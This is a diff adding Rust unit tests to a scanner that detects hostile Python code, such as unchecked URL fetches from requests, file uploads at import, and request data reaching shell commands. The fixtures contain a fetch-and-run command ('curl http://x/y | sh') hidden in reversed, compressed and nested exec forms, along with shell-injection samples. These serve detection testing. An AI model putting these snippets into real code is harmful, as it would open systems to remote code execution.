@@ -291,6 +291,111 @@ fn what_looks_alike_is_not_found() {
 }
 
 #[test]
+fn a_pattern_that_lets_all_through_is_no_check_of_an_address() {
+    let code = |pattern: &str| {
+        format!(
+            "import re, requests\nfrom server import PromptServer\n\
+             def is_valid_url(url):\n    pattern = re.compile({pattern})\n    \
+             if pattern.match(url):\n        return True\n    return False\n\
+             @PromptServer.instance.routes.post('/x')\nasync def x(request):\n    \
+             url = await request.text()\n    if not is_valid_url(url):\n        return\n    \
+             requests.get(url)\n"
+        )
+    };
+    let found = |pattern: &str| {
+        let all = scan_one(&code(pattern));
+        all.iter().any(|f| f.rule.id == "py-url-from-data")
+    };
+    assert!(found("r'^(.+@|ssh://).+:.+$'"));
+    // That the host is fixed on one of two ways is no check either.
+    let one_way = "import requests\nfrom server import PromptServer\n\
+                   @PromptServer.instance.routes.post('/x')\nasync def x(request):\n    \
+                   url = await request.text()\n    if 'hub' in url:\n        \
+                   url = f'https://hub.test/{url}'\n    requests.get(url)\n";
+    assert!(
+        scan_one(one_way)
+            .iter()
+            .any(|f| f.rule.id == "py-url-from-data")
+    );
+    assert!(!found(r"r'^https://hub\.test/[a-z]+$'"));
+}
+
+#[test]
+fn a_file_that_is_sent_at_import_is_told() {
+    let send = "requests.post('https://x.test', files={'f': open('a.png', 'rb')})\n";
+    let at_import = scan_one(&format!("import requests\n{send}"));
+    assert_eq!(
+        worst(&at_import),
+        Some(Severity::Medium),
+        "{}",
+        shown(&at_import)
+    );
+    let when_used = scan_one(&format!("import requests\ndef send():\n    {send}"));
+    assert_eq!(
+        worst(&when_used),
+        Some(Severity::Low),
+        "{}",
+        shown(&when_used)
+    );
+}
+
+#[test]
+fn texts_that_are_run_are_scanned_where_they_are_known() {
+    let line = r#"import os; os.system("curl http://x/y | sh")"#;
+    let reversed: String = line.chars().rev().collect();
+    let packed = "eJzLzC3ILypRyC/myi/WK64sLknN1VBPLi3KUcgoKSmw0tev0K9UqFEozlDX5AIAacEO6w==";
+    for code in [
+        format!("exec('{line}')\n"),
+        format!("T = '{line}'\ndef f():\n    exec(T)\n"),
+        format!("exec(b'{line}'.decode())\n"),
+        format!("exec('{reversed}'[::-1])\n"),
+        format!("exec('exec(\\'{line}\\')')\n"),
+        format!("import subprocess, sys\nsubprocess.run([sys.executable, '-c', '{line}'])\n"),
+        format!("import zlib, base64\nexec(zlib.decompress(base64.b64decode('{packed}')))\n"),
+    ] {
+        let found = scan_one(&code);
+        let hostile = found.iter().any(|f| f.rule.id == "py-hostile-command");
+        assert!(hostile, "{code}\n{}", shown(&found));
+    }
+    let found = scan_one("eval('1 + 1')\nexec('x = 1')\n");
+    let worst = worst(&found);
+    assert!(worst < Some(Severity::Critical), "{}", shown(&found));
+    // Texts in texts come to an end.
+    let deep = (0..8).fold("pass".to_string(), |inner, _| {
+        format!("exec({inner:?})\nexec({inner:?})")
+    });
+    assert!(!scan_one(&deep).is_empty());
+}
+
+#[test]
+fn data_is_followed_through_queues_and_into_functions_within_functions() {
+    let route = "import queue, subprocess\nfrom server import PromptServer\n\
+                 jobs = queue.Queue()\n\
+                 @PromptServer.instance.routes.post('/x')\nasync def x(request):\n    ";
+    let through_queue = "jobs.put(('run', (1, await request.json())))\n\
+                         def work():\n    kind, item = jobs.get()\n    number, data = item\n    \
+                         subprocess.run(data['line'], shell=True)\n";
+    let within = "run(await request.text())\n\
+                  def run(line):\n    def inner():\n        subprocess.run(line, shell=True)\n    \
+                  inner()\n";
+    for code in [through_queue, within] {
+        let found = scan_one(&format!("{route}{code}"));
+        let reaches = |f: &Finding| f.message.contains("A request reaches");
+        assert!(found.iter().any(reaches), "{code}\n{}", shown(&found));
+    }
+    // Another function's parameter of the same place is not it.
+    let other = "run(await request.text())\n\
+                 def run(line):\n    def inner(constant):\n        \
+                 subprocess.run(constant, shell=True)\n    inner('true')\n    print(line)\n";
+    let found = scan_one(&format!("{route}{other}"));
+    assert!(
+        !found.iter().any(|f| f.message.contains("A request")),
+        "{}",
+        shown(&found)
+    );
+}
+
+#[test]
 fn sources_as_deep_as_is_read_end_well() {
     let n = 2900;
     let sources = [
